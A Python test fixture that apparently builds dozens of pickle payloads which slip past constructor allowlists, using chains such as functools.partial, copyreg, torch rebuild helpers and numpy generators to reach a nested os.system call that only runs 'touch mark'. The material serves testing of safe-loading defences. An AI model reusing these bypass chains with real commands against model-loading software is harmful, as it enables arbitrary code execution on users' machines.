"""Pickles that name allowed constructors only, and reach code through what those call in turn.

Each is harmless: at worst it creates the file `mark` in the working directory.
"""

from __future__ import annotations

import struct


def _old_text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def _class(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def _blob(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def _with_state(made: bytes, **attributes: bytes) -> bytes:
    items = b"".join(_old_text(key) + value + b"s" for key, value in attributes.items())
    return made + b"}" + items + b"b"


INNER = b"L119547037146038801333356L\n.I1001\n.(d.cos\nsystem\n(S'touch mark'\ntR."
"""A file of `torch.save` in ASCII that runs a command."""
_LOAD = _class("torch.storage", "_load_from_bytes")
_INNER = _blob(INNER)
_INNER_TEXT = _old_text(INNER.decode())
_OBJECT = _class("builtins", "object")
_SPACE = _class("argparse", "Namespace") + b")\x81"
_DICT = _class("collections", "OrderedDict") + b")R"
_FROM_TYPE = _class("torch._tensor", "_rebuild_from_type_v2")
_LATER = _class("functools", "partial") + b"(" + _LOAD + _INNER + b"tR"
"""Loads the bytes when it is called, without arguments."""
_SPREAD = _class("functools", "partial") + b"(" + _FROM_TYPE + _LOAD + _OBJECT + b"tR"
"""Loads the bytes when it is called with a list of them and a state."""
_SPREAD_STATE = (
    _class("functools", "partial")
    + b"("
    + _FROM_TYPE
    + b"tR("
    + _FROM_TYPE
    + b"("
    + _LOAD
    + _OBJECT
    + b"t}"
    + _old_text("state")
    + b"}sNtb"
)
"""The same, with the state as a keyword."""
_ONCE = _class("functools", "partial") + b"(" + _LOAD + b"tR"
_A_CLASS = _old_text("X") + b")}" + _old_text("__setstate__") + _ONCE + b"s"
"""The arguments of `type`."""


def _call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


_BODIES: dict[str, bytes] = {
    "a state replaces __setstate__": _with_state(_SPACE, __setstate__=_LOAD) + _INNER + b"b",
    "of an ordered dict": _with_state(_DICT, __setstate__=_LOAD) + _INNER + b"b",
    "of a user's dict": (
        _with_state(_class("collections", "UserDict") + b")\x81", __setstate__=_LOAD)
        + _INNER
        + b"b"
    ),
    "of a plain namespace": (
        _with_state(_class("types", "SimpleNamespace") + b")R", __setstate__=_LOAD) + _INNER + b"b"
    ),
    "of a layer": (
        _with_state(_class("torch.nn.modules.linear", "Identity") + b")\x81", __setstate__=_LOAD)
        + _INNER
        + b"b"
    ),
    "a state replaces append": _with_state(_SPACE, append=_LOAD) + _INNER + b"a",
    "a state replaces extend": _with_state(_SPACE, extend=_SPREAD_STATE) + b"(" + _INNER + b"e",
    "a state replaces add": _with_state(_SPACE, add=_LOAD) + b"(" + _INNER + b"\x90",
    "keys of a dict": _call(_class("builtins", "dict"), _with_state(_SPACE, keys=_LATER)),
    "keys of an ordered dict": _call(
        _class("collections", "OrderedDict"), _with_state(_SPACE, keys=_LATER)
    ),
    "keys of a user's dict": _call(
        _class("collections", "UserDict"), _with_state(_SPACE, keys=_LATER)
    ),
    "items of weak values": _call(
        _class("weakref", "WeakValueDictionary"), _with_state(_SPACE, items=_LATER)
    ),
    "a parameter detaches": _call(
        _class("torch.nn.parameter", "Parameter"), _with_state(_SPACE, detach=_LATER)
    ),
    "a rebuilt parameter detaches": _call(
        _class("torch._utils", "_rebuild_parameter"),
        _with_state(_SPACE, detach=_LATER),
        b"\x89",
        b"}",
    ),
    "a number asks for an array": _call(
        _class("numpy", "float64"), _with_state(_SPACE, __array__=_LATER)
    ),
    "an activation calls a method": _call(
        _class("torch.nn.functional", "tanh"), _with_state(_SPACE, tanh=_LATER)
    ),
    "a generator is constructed": _call(
        _class("numpy.random._pickle", "__generator_ctor"), _INNER, _LOAD
    ),
    "a tensor's type spreads a dict": _call(
        _FROM_TYPE, _LOAD, _OBJECT, b"}" + _INNER + b"Ns", b"}"
    ),
    "a tensor's type spreads a set": _call(
        _FROM_TYPE, _LOAD, _OBJECT, b"\x8f(" + _INNER + b"\x90", b"}"
    ),
    "an old tensor's type spreads a dict": _call(
        _class("torch._tensor", "_rebuild_from_type"),
        _LOAD,
        _class("torch", "Tensor"),
        b"}" + _INNER + b"Ns",
        b"}",
    ),
    "bytes of a codec": _call(
        _LOAD, _call(_class("_codecs", "encode"), _INNER_TEXT, _old_text("ascii"))
    ),
    "bytes of a text": _call(
        _LOAD, _call(_class("builtins", "bytes"), _INNER_TEXT, _old_text("ascii"))
    ),
    "bytes of a list": _call(
        _LOAD,
        _call(_class("builtins", "bytes"), b"(" + b"".join(b"K%c" % n for n in INNER) + b"l"),
    ),
    "a byte array of a text": _call(
        _LOAD, _call(_class("builtins", "bytearray"), _INNER_TEXT, _old_text("ascii"))
    ),
    "an array of bytes": _call(_LOAD, _call(_class("array", "array"), _old_text("B"), _INNER)),
    "a buffer beside the pickle": _call(_LOAD, b"\x97"),
    "a class is made by its constructor": (
        _class("builtins", "type") + b"(" + _A_CLASS + b"t\x81)\x81" + _INNER + b"b"
    ),
    "a class is made with keywords": (
        _class("builtins", "type") + b"(" + _A_CLASS + b"t}\x92)\x81" + _INNER + b"b"
    ),
    "a class is made by copyreg": (
        _call(_class("copyreg", "__newobj__"), _class("builtins", "type"), _A_CLASS)
        + b")\x81"
        + _INNER
        + b"b"
    ),
    "a class is made by copyreg with keywords": (
        _call(
            _class("copyreg", "__newobj_ex__"),
            _class("builtins", "type"),
            b"(" + _A_CLASS + b"t",
            b"}",
        )
        + b")\x81"
        + _INNER
        + b"b"
    ),
    "an enum with methods": _call(
        _class("enum", "Enum"),
        _old_text("X"),
        b"}" + _old_text("__init__") + _ONCE + b"s" + _old_text("A") + _INNER + b"s",
    ),
    "a base that is an object": _call(
        _class("copyreg", "_reconstructor"),
        b"(" + _INNER + b"l",
        _with_state(_SPACE, __new__=_SPREAD),
        b"}",
    ),
    "a class that is an object": _call(
        _class("copyreg", "__newobj__"),
        _with_state(
            _class("collections", "UserList") + b")\x81",
            data=b"(" + _INNER + b"l",
            __new__=_SPREAD,
        ),
        b"}",
    ),
    "arguments in a dict": _LOAD + b"}" + _INNER + b"NsR",
    "arguments in a user's list": (
        _LOAD
        + _with_state(_class("collections", "UserList") + b")\x81", data=b"(" + _INNER + b"l")
        + b"R"
    ),
    "an attribute whose owner is hidden": _call(
        _FROM_TYPE,
        _class("builtins", "getattr"),
        _OBJECT,
        b"}" + _class("collections", "UserDict") + b"Ns" + _old_text("__init__") + b"Ns",
        b"}",
    ),
    "an attribute by a generator": _call(
        _class("numpy.random._pickle", "__generator_ctor"),
        _old_text("__globals__"),
        _class("functools", "partial")
        + b"("
        + _class("builtins", "getattr")
        + _class("collections", "UserDict")
        + b"tR",
    ),
    "a loader that is kept": b"}" + _old_text("hook") + _LOAD + b"s",
    "a class of a package that is no enum": _call(
        _class("megatron.core.utils", "Popen"), _old_text("touch mark")
    ),
    "arguments that are constructed": _call(
        _class("transformers.training_args", "TrainingArguments"), _old_text("mark")
    ),
    "a mesh that is constructed": _call(
        _class("torch.distributed.device_mesh", "DeviceMesh"), _old_text("cpu"), b"K\x00\x85"
    ),
    "a name that is appended to": _class("torch._C", "_VariableFunctions") + b"(K\x01\x90",
    "a type that is asked for": _call(_class("builtins", "type"), _LOAD) + b")\x81",
    "several at once": b"N0" + _with_state(_DICT, extend=_LOAD) + b"0" + _call(_LOAD, b"N"),
}

THROUGH_ALLOWED: dict[str, bytes] = {
    f"through allowed names: {name}": b"\x80\x04" + body + b"." for name, body in _BODIES.items()
}
